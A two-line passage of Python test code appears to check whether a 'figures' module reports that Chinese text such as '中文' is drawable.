    assert figures.drawable("中文") is figures._chinese()
    assert figures._chinese(without=True) is False
